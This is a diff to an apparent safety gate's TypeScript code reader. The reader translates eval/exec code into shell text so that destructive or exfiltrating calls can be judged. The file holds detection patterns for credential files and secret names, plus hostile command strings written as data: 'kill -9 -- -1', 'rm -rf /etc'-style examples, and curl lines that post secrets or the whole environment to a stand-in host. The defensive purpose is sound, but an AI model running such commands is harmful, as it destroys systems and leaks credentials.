@@ -26,7 +26,8 @@
  * string literal of the code also reaches the floor as approximate shell text: nothing is
  * silently dropped.
  */
-import type { StringPart, Token, Tokens } from './tokens';
+import { nameWords, saysItDeletes, type StringPart, type Token, type Tokens } from './tokens';
+import { rowFor } from '../table';
 
 /** A tokenizer of the reader's language, for code inside a string handed to `eval`/`exec`. */
 export type Tokenizer = (code: string) => Tokens;
@@ -137,6 +138,38 @@ export const CREDENTIAL_HINT = /(?:\.ssh\/|id_rsa|id_ed25519|id_ecdsa|id_dsa|\.a
 /** Secret environment variable names. */
 const SECRET_NAME = /(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL|AUTH)/i;
 
+/** Words of a name (or a module's name) that say it is a process: with {@link LISTING_WORDS}, a listing of every process. */
+const PROCESS_WORDS: ReadonlySet<string> = new Set(['process', 'processes', 'proc', 'procs', 'ps']);
+const LISTING_WORDS: ReadonlySet<string> = new Set(['iter', 'list', 'all', 'table', 'pids', 'entries']);
+/** Names that stop or kill the process they are handed. */
+const KILL_NAMES: ReadonlySet<string> = new Set(['kill', 'terminate', 'killpg', 'send_signal']);
+/** Tokens that choose among the processes listed: a condition, a filter, a comparison. */
+const CHOOSING: ReadonlySet<string> = new Set(['if', 'filter', 'where', 'select', 'find', 'some', 'switch', 'case', 'match', 'search', 'startswith', 'endswith', 'includes', 'test', '==', '===', '!=', '!==', '?', '&&', '||', 'and', 'or', 'not']);
+
+/**
+ * Every process killed from code (docs/decisions.md "Every process killed from code"): a listing
+ * of every process (`psutil.process_iter()`, `psutil.pids()`, the `ps-list` module) and a kill
+ * call (`p.kill()`, `process.kill(pid)`, `p.terminate()`) with nothing that chooses among them
+ * (no `if`, filter or comparison anywhere in the code) is `kill -9 -1`. Code that kills one
+ * process it names, its own children (`Process().children()`), or the processes a condition picks
+ * is not.
+ */
+function everyProcessKilled(tokens: readonly Token[]): string | null {
+  let listing: string | null = null;
+  let kills = false;
+  for (const [k, token] of tokens.entries()) {
+    if (token.kind === 'punct' || token.kind === 'name') {
+      if (CHOOSING.has(token.value)) return null;
+    }
+    if (token.kind !== 'name' && token.kind !== 'string') continue;
+    if (token.kind === 'name' && KILL_NAMES.has(token.value) && tokens[k + 1]?.value === '(') kills = true;
+    const words = token.value.length > 64 ? [] : nameWords(token.value);
+    const listed = token.value === 'pids' || (words.some((word) => PROCESS_WORDS.has(word)) && words.some((word) => LISTING_WORDS.has(word)));
+    if (listed) listing ??= token.value;
+  }
+  return listing !== null && kills ? `a kill of each process ${listing} lists` : null;
+}
+
 /** Reads code; never throws. */
 export function readCode(tokens: readonly Token[], language: Language, unreadable: string | null, tokenize: Tokenizer, depth = 0): CodeFinding[] {
   try {
@@ -245,6 +278,8 @@ class Reader {
       if (this.secret !== null) this.findings.push({ kind: 'shell-text', text: `curl --data-binary "$${this.secret}" ${urlLiterals(this.tokens).join(' ') || 'https://upload.invalid'}`, approximate: false, what: `${this.network} with $${this.secret}` });
       if (this.allEnvironment) this.findings.push({ kind: 'shell-text', text: 'env | curl --data-binary @- https://upload.invalid', approximate: false, what: `${this.network} with the whole environment` });
     }
+    const killsEvery = everyProcessKilled(this.tokens);
+    if (killsEvery !== null) this.findings.push({ kind: 'shell-text', text: 'kill -9 -- -1', approximate: true, what: killsEvery });
     if (!this.followed) this.findings.push(...allLiterals(this.tokens, 'a string in code the gate could not follow'));
     return this.findings;
   }
@@ -468,6 +503,8 @@ class Reader {
       if (token.value === '[') {
         const index = this.arguments(tokens, j + 1, ']');
         const key = index.values[0];
+        // plumbum's `rm['-rf', '/etc']`, `local['rm']['-rf', P]`: a program bound to its words.
+        if (value.kind === 'api') this.programCall(value.name, index.values, path + '[]');
         if (key !== undefined && key.kind === 'text' && isExact(key) && index.values.length === 1) {
           if (value.kind === 'api') value = this.member(value, key.text);
           else if (value.kind === 'list' && /^-?\d+$/.test(key.text)) value = value.items.at(Number(key.text)) ?? UNKNOWN_VALUE;
@@ -646,6 +683,14 @@ class Reader {
       if (pid !== undefined && pid.kind === 'text' && /^-?\d{1,10}$/.test(pid.text)) this.shell({ kind: 'text', text: `kill -9 -- ${signal.group ? `-${pid.text.replace(/^-/, '')}` : pid.text}` }, what);
     }
     const action = PATH_APIS[language][name];
+    // A call named for a program of the table given only literal words (`sh.rm('-rf', '/usr')`,
+    // shelljs's `shell.rm('-rf', P)`, `sh.chmod('-R', '777', '/etc')`): that program's argv
+    // (docs/decisions.md "A call named for a program"). Read besides the call's own API reading.
+    if (receiver?.kind !== 'text') this.programCall(name, args, what);
+    // A name no table lists whose words say it deletes a tree (`removetree`, `deleteSync`,
+    // `remove_tree`): a recursive deletion of its path, as the listed ones are.
+    const named = action === undefined && saysItDeletes(name) ? 'rm-rf' : undefined;
+    if (named !== undefined && receiver?.kind !== 'text') this.pathAction(named, null, args, argTokens, what);
     if (action !== undefined) this.pathAction(action, receiver !== null && receiver.kind === 'text' && PATH_METHODS.has(name) ? receiver : null, args, argTokens, what);
     if (FORK_APIS[language].has(name) && (language === 'python' ? /(^|\.)(os|posix|pty)\.fork/.test(path) || path === 'fork' || path === 'forkpty' : true)) this.forks ??= what;
     if (NETWORK_APIS[language].has(name)) this.network ??= what;
@@ -713,6 +758,27 @@ class Reader {
     if (text.trim() !== '') this.findings.push({ kind: 'shell-text', text, approximate: !exact, what });
   }
 
+  /**
+   * `name(args)` or plumbum's `name[args]`, where `name` is a program the table has a row for and
+   * every argument is a literal text or a list of them: read as `name args…` (the floor's arms
+   * judge it as that command; a program name given a non-literal is no such call).
+   */
+  private programCall(name: string, args: Value[], what: string): void {
+    if (args.length === 0 || ARGV_APIS[this.language][name] !== undefined || SHELL_TEXT_APIS[this.language].has(name) || EVAL_APIS[this.language].has(name)) return;
+    const words: Value[] = [];
+    for (const arg of args) {
+      if (arg.kind === 'text' && isExact(arg)) words.push(arg);
+      else if (arg.kind === 'list' && arg.items.every((item) => item.kind === 'text' && isExact(item))) words.push(...arg.items);
+      else return;
+    }
+    // The words must read as a command line (an option or a path among them): a method that shares
+    // a program's name on an object of the code's own (`sock.shutdown(2)`, `timer.sleep(5)`) takes
+    // numbers and names, not a program's words.
+    if (!words.some((word) => word.kind === 'text' && /^-|\//.test(word.text))) return;
+    if (rowFor(name) === null) return;
+    this.argv([{ kind: 'text', text: name }, ...words], what);
+  }
+
   private argv(words: Value[], what: string): void {
     if (words.length === 0) return;
     if (!words.every((word) => word.kind === 'text')) this.followed = false;
@@ -726,6 +792,11 @@ class Reader {
     // A method of a path object (`Path(P).unlink()`) acts on its receiver.
     const target = receiver ?? args[0];
     if (target === undefined) return;
+    // A list of paths or patterns (`del.sync(['/usr/**'])`, `rimraf(['/etc'])`): each of them.
+    if (target.kind === 'list' && target !== receiver && (action === 'rm-rf' || action === 'rm' || action === 'rm-js')) {
+      for (const item of target.items) this.pathAction(action, null, [item, ...args.slice(1)], argTokens, what);
+      return;
+    }
     if (target.kind !== 'text') {
       if (target.kind !== 'api') this.followed = false;
       return;
